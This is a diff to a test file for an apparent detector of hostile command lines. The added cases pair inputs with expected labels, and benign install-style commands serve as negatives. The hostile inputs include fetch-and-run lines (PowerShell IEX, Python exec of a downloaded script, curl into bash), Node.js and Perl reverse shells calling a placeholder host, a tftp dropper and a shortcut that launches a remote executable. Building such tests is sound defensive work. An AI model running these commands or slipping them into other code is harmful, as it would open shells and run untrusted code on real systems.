@@ -175,7 +175,28 @@ def test_what_powershell_saves_and_starts_is_seen(module: Guest, lines: tuple[st
         (("cd /dev/shm || cd /tmp", "tftp -g -r a 192.0.2.1; chmod +x *; ./a x86"), {"shell_dropper"}),
         (("certutil.exe /urlcache /f http://e.example/a b",), {"windows_tool_loads_from_network"}),
         (("curl -s http://e.example/a | sudo -E bash -",), {"network_into_a_shell"}),
+        (("exec(urllib.request.urlopen('http://e.example/s').read())",), {"python_runs_fetched_code"}),
+        (("powershell -w hidden -c \"IEX(iwr http://e.example/a)\"",), {"powershell_fetches_into_expression"}),
+        (("irm https://e.example/a | iex",), {"powershell_fetches_into_expression"}),
+        (
+            (
+                "var c = new (require('net').Socket)(), s = require('child_process').spawn('/bin/sh', []);",
+                "c.connect(4444, 'e.example', () => { c.pipe(s.stdin); s.stdout.pipe(c); s.stderr.pipe(c) });",
+            ),
+            {"node_reverse_shell"},
+        ),
+        (
+            (
+                "perl -e 'use Socket;socket(S,PF_INET,SOCK_STREAM,getprotobyname(\"tcp\"));"
+                'if(connect(S,sockaddr_in(1,inet_aton("192.0.2.1")))){open(STDIN,">&S");exec("/bin/sh -i");};\'',
+            ),
+            {"reverse_shell_one_liner"},
+        ),
+        (("[InternetShortcut]", "URL=file://45.0.2.1/share/a.exe"), {"internet_shortcut_to_a_program"}),
+        (("[InternetShortcut]", "URL=file:///C:/Program%20Files/App/app.exe"), set()),
+        (("[InternetShortcut]", "URL=https://e.example/setup.exe"), set()),
         # As honest installers and builds do it.
+        (("data = json.loads(urlopen(url).read())", "exec(compile(open(file).read(), file, 'exec'))"), set()),
         (("cd /tmp", "curl -fsSL https://e.example/i.sh -o i.sh", "chmod +x i.sh", "./i.sh", "rm -f /tmp/i.sh"), set()),
         (
             ("wget https://e.example/a.tar.gz -O /tmp/a.tar.gz", "chmod 755 configure", "./configure", "rm -rf b/*"),
